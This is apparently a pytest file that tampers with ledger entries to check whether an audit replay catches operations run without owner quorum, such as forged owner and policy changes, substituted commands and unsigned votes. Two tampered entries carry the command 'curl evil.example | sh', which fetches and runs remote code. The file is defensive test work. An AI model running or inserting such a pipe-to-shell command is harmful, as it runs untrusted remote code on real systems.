"""Attacks on the auditor's recount (``ProposalReplay`` via ``RulesReplay``, what ``duet audit`` and
the controller's start replay): a lawful ledger is made by a real in-process controller, then one
entry is changed the way a lying or buggy controller would write it. Each variant runs an operation
that no quorum approved; the audit must report it.

Promise under test: "the audit (``duet audit``) flags any ledger where an operation ran without its
quorum"."""

from __future__ import annotations

import copy
import hashlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from approvals_world import World, open_world, perform, signed, vote, world_fixture
from duet import keys
from duet.client.audit import Auditor, HeadStore
from duet.client.trust import ControllerPin
from duet.controller.runtime import Controller
from duet.errors import NotFound
from duet.ledger.heads import sign_head
from duet.protocol import approvals as ap
from duet.protocol import lifecycle as lc
from duet.protocol.approvals import ApprovalPolicy, ProposalReplay
from duet.protocol.canonical import canonical
from duet.protocol.envelope import b64decode
from duet.protocol.rules import RulesReplay

STRICT = '[thresholds]\n"cvm.start" = 2\n"cvm.run" = 2\n"cvm.mark.in-update" = 2\n"owners.change" = 2\n"policy.change" = 2\n'


@pytest.fixture
def world(tmp_path: Path) -> World:
    made = world_fixture(tmp_path)
    made.policy.write_text(STRICT)
    return made


@pytest.fixture
async def controller(world: World) -> AsyncIterator[Controller]:
    made = await open_world(world, first=True)
    yield made
    await made.close()


def findings(entries: list[dict[str, Any]], replay: RulesReplay | None = None) -> list[str]:
    replay = replay or RulesReplay()
    return [f"{v.seq}: {v.code}" for entry in entries for v in replay.apply(entry)]


async def approved(controller: Controller, world: World, op: str, params: dict[str, Any]) -> tuple[str, Any]:
    """Owner 0 proposes, owner 1 approves: executed; the proposal id and the operation's result."""
    proposal = (await perform(controller, signed(controller, world, 0, op, params)))["proposal"]
    done = await vote(controller, world, 1, "proposal.approve", proposal["id"])
    assert done["proposal"]["status"] == "executed", done
    return proposal["id"], done["result"]


async def started_cvm(controller: Controller, world: World) -> str:
    import asyncio

    pid, started = await approved(controller, world, "cvm.start", {"cvm_type": "snp"})
    for _ in range(300):
        if controller.service.get_cvm(started["cvm_id"]).mode == lc.IN_UPDATE:
            break
        await asyncio.sleep(0.01)
    return str(started["cvm_id"])


async def test_an_owners_change_that_adds_another_key_than_the_one_approved_is_flagged(
    controller: Controller, world: World
) -> None:
    """Two owners approve adding key K; the ``controller.owners`` entry of the execution adds key X
    (the attacker's). ProposalReplay only checks that *some* executed owners.change proposal is
    behind the entry, never that the owner set it writes is the one proposed (add/remove)."""
    approved_key = keys.public_pem(keys.generate("ed25519").public_key()).decode()
    attacker = keys.generate("ed25519").public_key()
    pid, _ = await approved(controller, world, "owners.change", {"add": [approved_key]})
    entries = copy.deepcopy(controller.ledger.entries())
    assert findings(entries) == []  # the lawful ledger passes

    change = next(e for e in entries if e["event"] == lc.CONTROLLER_OWNERS and e["request_digest"] == pid)
    before = [o for o in change["owners"] if o != keys.key_id(keys.load_public_key_bytes(approved_key.encode()))]
    change["owners"] = sorted([*before, keys.key_id(attacker)])
    change["added"] = [keys.public_pem(attacker).decode()]
    change["owners_digest"] = hashlib.sha256("\n".join(change["owners"]).encode()).hexdigest()

    assert findings(entries) != []


async def test_a_policy_change_that_writes_another_policy_than_the_one_approved_is_flagged(
    controller: Controller, world: World
) -> None:
    """Two owners approve raising ``cvm.stop`` to 3; the ``controller.policy`` entry of the execution
    writes a policy with every threshold 1. Not flagged: the policy written is never compared with
    the proposal's ``params.policy``; every later single-owner operation then passes the audit."""
    proposed = ApprovalPolicy.parse(STRICT + '"cvm.stop" = 3\n').to_dict()
    pid, _ = await approved(controller, world, "policy.change", {"policy": proposed})
    entries = copy.deepcopy(controller.ledger.entries())
    assert findings(entries) == []

    written = next(e for e in entries if e["event"] == ap.CONTROLLER_POLICY and e["request_digest"] == pid)
    everyone_alone = ApprovalPolicy()
    written["policy"], written["policy_sha256"] = everyone_alone.to_dict(), everyone_alone.sha256

    assert findings(entries) != []


async def test_a_run_proposal_executed_with_other_commands_is_flagged(controller: Controller, world: World) -> None:
    """Two owners approve running ``apt-get install nginx``; the ledger shows the execution running
    ``curl evil.example | sh`` instead, and then one more unapproved command under the same digest.
    The proposal's request (with its commands) is in ``proposal.created``, yet neither the commands
    nor their number is compared; ``cvm.run`` is exempt from ``executed_twice``."""
    cvm_id = await started_cvm(controller, world)
    pid, _ = await approved(controller, world, "cvm.run", {"cvm_id": cvm_id, "commands": ["apt-get install nginx"]})
    entries = copy.deepcopy(controller.ledger.entries())
    assert findings(entries) == []

    started = next(e for e in entries if e["event"] == lc.COMMAND_STARTED and e["request_digest"] == pid)
    started["command"] = "curl evil.example | sh"
    assert findings(entries) != [], "a command other than the approved one ran"


async def test_a_run_proposal_executed_with_an_extra_command_is_flagged(controller: Controller, world: World) -> None:
    """As above, the approved command ran, followed by an extra (unapproved) command with the same digest."""
    cvm_id = await started_cvm(controller, world)
    pid, _ = await approved(controller, world, "cvm.run", {"cvm_id": cvm_id, "commands": ["apt-get install nginx"]})
    entries = copy.deepcopy(controller.ledger.entries())
    started = next(e for e in entries if e["event"] == lc.COMMAND_STARTED and e["request_digest"] == pid)
    extra = {**started, "seq": len(entries), "cvm_prev": entries[-1]["seq"], "command": "curl evil.example | sh"}
    entries.append(extra)

    assert findings(entries) != [], "one more command than the approved request holds ran"


async def test_a_start_proposal_executed_with_another_type_or_provider_is_flagged(controller: Controller, world: World) -> None:
    """Two owners approve starting an ``snp`` CVM; the ledger's ``cvm.provisioning`` of the execution
    says ``tdx`` (or another provider). Not compared with the proposal's params."""
    cvm_id = await started_cvm(controller, world)
    entries = copy.deepcopy(controller.ledger.entries())
    assert findings(entries) == []
    provisioning = next(e for e in entries if e["event"] == lc.CVM_PROVISIONING and e["cvm"] == cvm_id)
    provisioning["type"] = "tdx"

    assert findings(entries) != []


def signature_check(world: World) -> ap.SignatureCheck:
    by_id = {world.key_id(i): key.public_key() for i, key in enumerate(world.owner_keys)}

    def check(signer: str, request: Any, signature: str) -> bool:
        key = by_id.get(signer)
        try:
            return key is not None and keys.verify(key, b64decode(signature), canonical(dict(request)))
        except ValueError:
            return False

    return check


async def test_a_vote_without_its_signed_request_does_not_count(controller: Controller, world: World) -> None:
    """Even given the owners' public keys (``ProposalReplay(verify_signature=...)``), a
    ``proposal.approved`` whose ``request`` and ``signature`` are null counts as that owner's
    approval: nothing is verified, so a controller can forge the second owner's vote. (A vote is
    never above 16 KiB, so a null request is never lawful; ``duet audit`` passes no keys at all.)"""
    cvm_id = await started_cvm(controller, world)
    pid, _ = await approved(controller, world, "cvm.run", {"cvm_id": cvm_id, "commands": ["uptime"]})
    entries = copy.deepcopy(controller.ledger.entries())
    check = signature_check(world)
    lawful = ProposalReplay(verify_signature=check)
    assert [f"{v.seq}: {v.code}" for e in entries for v in lawful.apply(e)] == []

    vote_entry = next(e for e in entries if e["event"] == ap.PROPOSAL_APPROVED and e["proposal"] == pid)
    tampered = copy.deepcopy(entries)
    forged = next(e for e in tampered if e["event"] == ap.PROPOSAL_APPROVED and e["proposal"] == pid)
    forged["signature"] = signed(controller, world, 1, "proposal.approve", {"proposal_id": pid}).signature
    bad = ProposalReplay(verify_signature=check)
    assert "bad_vote_signature" in [v.code for e in tampered for v in bad.apply(e)]  # a bad signature is caught...

    vote_entry["request"], vote_entry["signature"] = None, None  # ...but a forged vote that carries none is not
    replay = ProposalReplay(verify_signature=check)
    found = [v.code for e in entries for v in replay.apply(e)]

    assert found != []


# --- a CVM audit (``duet audit CVM_ID``) holds the whole history to today's owners and policy -------------


class ControllerSource:
    """The in-process controller as an auditor reaches it: signed heads, pages, proofs."""

    first_contact = False

    def __init__(self, controller: Controller) -> None:
        self.controller = controller
        self.url = "http://controller.test"

    def pin(self) -> ControllerPin:
        identity = self.controller.identity
        return ControllerPin(
            identity.controller_id,
            keys.public_pem(identity.signing_key.public_key()).decode(),
            "none",
            owners=identity.owners,
            approval_policy=identity.approval_policy,
        )

    def get(self, path: str, **query: Any) -> Any:
        ledger = self.controller.ledger
        if path == "/v1/ledger/head":
            return sign_head(ledger.head(), self.controller.identity.signing_key)
        if path == "/v1/ledger/entries":
            return ledger.page(query["start"], query["end"], query.get("cvm"))
        if path == "/v1/ledger/proof/inclusion":
            return ledger.inclusion(query["index"], query["tree_size"])
        if path == "/v1/ledger/proof/consistency":
            return ledger.consistency(query["first"], query["second"])
        raise AssertionError(path)

    def blob(self, sha256: str) -> bytes:
        return self.controller.store.get_blob(sha256)

    def checkpoint(self, *, witnessed: bool = False) -> bytes:
        raise NotFound("no checkpoints here", code="no_checkpoint")


def cvm_audit(controller: Controller, cvm_id: str, home: Path) -> list[str]:
    """``duet audit CVM_ID`` (the real Auditor) over the in-process controller: its rule findings."""
    result = Auditor(ControllerSource(controller), HeadStore(home), cvm=cvm_id).audit()
    return [f"{f.seq}: {f.code}" for f in result.findings if f.code != "evidence_unverified"]


@pytest.mark.parametrize("change", ["owner_removed", "threshold_raised"])
async def test_a_cvm_audit_passes_a_lawful_history_with_a_governed_change(tmp_path: Path, change: str) -> None:
    """Promise: the audit flags ledgers where an operation ran without its quorum (and only those).
    An owner runs a command lawfully (``cvm.run`` threshold 1 then); later the owners remove that
    owner, or raise ``cvm.run`` to 2. ``duet audit CVM_ID`` replays the CVM's whole history against
    the identity's *current* owner set and policy, so the lawful past command becomes
    ``unknown_actor`` / ``quorum_not_met``. (The converse holds too: an unlawful past operation
    passes once the policy was lowered.) The whole-ledger audit of the same ledger passes."""
    world = world_fixture(tmp_path)
    world.policy.write_text('[thresholds]\n"cvm.mark.in-update" = 2\n')
    controller = await open_world(world, first=True)
    try:
        import asyncio

        started = await perform(controller, signed(controller, world, 0, "cvm.start", {"cvm_type": "snp"}))
        cvm_id = started["cvm_id"]
        for _ in range(300):
            if controller.service.get_cvm(cvm_id).mode == lc.IN_UPDATE:
                break
            await asyncio.sleep(0.01)
        await perform(controller, signed(controller, world, 2, "cvm.run", {"cvm_id": cvm_id, "commands": ["uptime"]}))
        if change == "owner_removed":
            await perform(controller, signed(controller, world, 0, "owners.change", {"remove": [world.key_id(2)]}))
        else:
            raised = ApprovalPolicy.from_dict({"thresholds": {"cvm.mark.in-update": 2, "cvm.run": 2}}).to_dict()
            await perform(controller, signed(controller, world, 0, "policy.change", {"policy": raised}))
        assert findings(controller.ledger.entries()) == []  # the whole-ledger audit: lawful

        assert cvm_audit(controller, cvm_id, tmp_path / "auditor") == []
    finally:
        await controller.close()


async def test_a_proposal_recorded_on_another_cvm_than_its_request_names_is_flagged(controller: Controller, world: World) -> None:
    """The owners sign (and approve) reopening CVM Y; the ledger records the proposal, its votes, its
    execution and the ``mode.changed`` on CVM X. ``proposal.created`` carries the signed request (whose
    ``params.cvm_id`` is Y), but ProposalReplay takes the CVM from the entry's ``cvm`` field and never
    compares it with the request: CVM X is reopened without a quorum that asked for it."""
    x, y = await started_cvm(controller, world), await started_cvm(controller, world)
    for cvm in (x, y):  # mark in-service: threshold 1
        await perform(controller, signed(controller, world, 0, "cvm.mark", {"cvm_id": cvm, "mode": lc.IN_SERVICE}))
    pid, _ = await approved(controller, world, "cvm.mark", {"cvm_id": y, "mode": lc.IN_UPDATE})
    entries = copy.deepcopy(controller.ledger.entries())
    assert findings(entries) == []

    mode_x = max(e["seq"] for e in entries if e["cvm"] == x and e["event"] == lc.MODE_CHANGED)
    for entry in entries:
        if entry.get("proposal") == pid or (entry["event"] == lc.MODE_CHANGED and entry["request_digest"] == pid):
            entry["cvm"] = x
        if entry["event"] == ap.PROPOSAL_CREATED and entry["proposal"] == pid:
            entry["cvm_mode_seq"] = mode_x
    created = next(e for e in entries if e["event"] == ap.PROPOSAL_CREATED and e["proposal"] == pid)
    assert created["request"]["params"]["cvm_id"] == y  # what the owners signed

    assert findings(entries) != []
